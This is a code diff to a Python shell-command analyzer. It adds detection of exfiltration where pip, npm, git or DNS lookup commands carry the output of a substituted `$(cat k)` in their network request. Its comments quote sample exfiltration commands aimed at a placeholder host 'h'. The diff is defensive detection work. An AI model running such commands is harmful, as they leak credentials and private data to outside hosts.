@@ -140,6 +140,12 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name or its packets")
     if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
         _addresses(an, prog, args, [], cmd)
+    if (prog in _CONTACTS and (prog != "git" or _GIT_CONTACTS & set(operands[:2])) or prog in _RESOLVERS or
+            prog in _CONFIGURED) and \
+            not an.defining and (ref := _substituted_data(an, args, clean)):
+        # rt63: `pip download -i "http://h/$(cat k)/simple"`, `npm view "x@$(cat k)"`, `git ls-remote "http://h/$(cat
+        # k).git"`, `getent hosts "$(cat k).away"`: the registry's, the forge's or the resolver's request carries it
+        r.add("exfiltration", f"{prog} sends the output of code that reads {ref}, in what it asks the network for")
     if (prog in _CONTACTS or prog in _CONFIGURED) and "config" in operands[:2] and not an.defining and (
             ref := next((r for a in args if (r := setting_data(an, a))), "")):
         # rt56: `pip config set global.index-url "http://h/$T"` (pip.conf), `npm config set`, `yarn config set`…:
@@ -958,6 +964,18 @@ def _addresses(an: Analyzer, prog: str, args: list[str], operands: list[str], cm
             an.r.add("exfiltration", f"{prog} sends {why}, in its address")
         elif ref := data_value(an, word):
             an.r.add("exfiltration", f"{prog} sends {ref}, in its address")
+
+
+_GIT_CONTACTS = frozenset({"ls-remote", "clone", "fetch", "pull", "push", "archive", "submodule", "remote"})
+
+
+def _substituted_data(an: Analyzer, args: list[str], clean: re.Pattern[str] | None) -> str:
+    """rt63: the data file (``line_data``: records, a credential) that a command's output inline in one of ``args``
+    reads (``"x@$(cat k)"``), for a program whose arguments go out in its request; ""."""
+    for a in args:
+        if ("$(" in a or "`" in a) and _computed(a, clean) and (found := line_data(an, a)):
+            return found
+    return ""
 
 
 _HTTPIE = frozenset({"http", "https", "xh", "xhs"})
